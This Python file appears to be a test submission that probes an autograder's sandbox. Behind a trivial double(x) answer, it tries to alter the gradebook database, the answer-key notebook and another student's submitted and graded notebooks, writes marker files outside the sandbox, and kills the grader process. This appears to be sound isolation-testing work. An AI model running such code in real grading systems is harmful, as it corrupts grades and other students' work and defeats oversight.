# ruff: noqa: F821  (COURSE, attempt... come from the header)
import os
import signal
import sqlite3


def append(path, data):
    with open(path, "ab") as handle:
        handle.write(data)
    return True


def sql():
    with sqlite3.connect(f"{COURSE}/gradebook.db") as db:
        db.execute("CREATE TABLE pwned (x)")
    return True


def create(path):
    with open(path, "w") as handle:
        handle.write(TOKEN)
    return os.path.exists(path)


# SQL first: SQLite may drop bytes appended after its last page when it commits.
attempt("sql-gradebook", sql)
attempt("write-gradebook", lambda: append(f"{COURSE}/gradebook.db", b"PWNED-" + TOKEN.encode()))
attempt("write-key", lambda: append(f"{COURSE}/source/ps1/ps1.ipynb", b" "))
attempt("write-other-student", lambda: append(f"{COURSE}/autograded/{VICTIM}/ps1/ps1.ipynb", b" "))
attempt(
    "write-other-submission", lambda: append(f"{COURSE}/submitted/{VICTIM}/ps1/ps1.ipynb", b" ")
)
attempt("write-course", lambda: create(f"{COURSE}/pwned-{TOKEN}.txt"))
attempt("write-exchange", lambda: create(f"{EXCHANGE}/pwned-{TOKEN}.txt"))
attempt("write-host-tmp", lambda: create(f"/tmp/postparis-pwned-{TOKEN}"))
# Last, since it ends the grading run when it works: kill the grader itself.
attempt("kill-grader", lambda: os.kill(os.getppid(), signal.SIGKILL) or True)


def double(x):
    return 2 * x
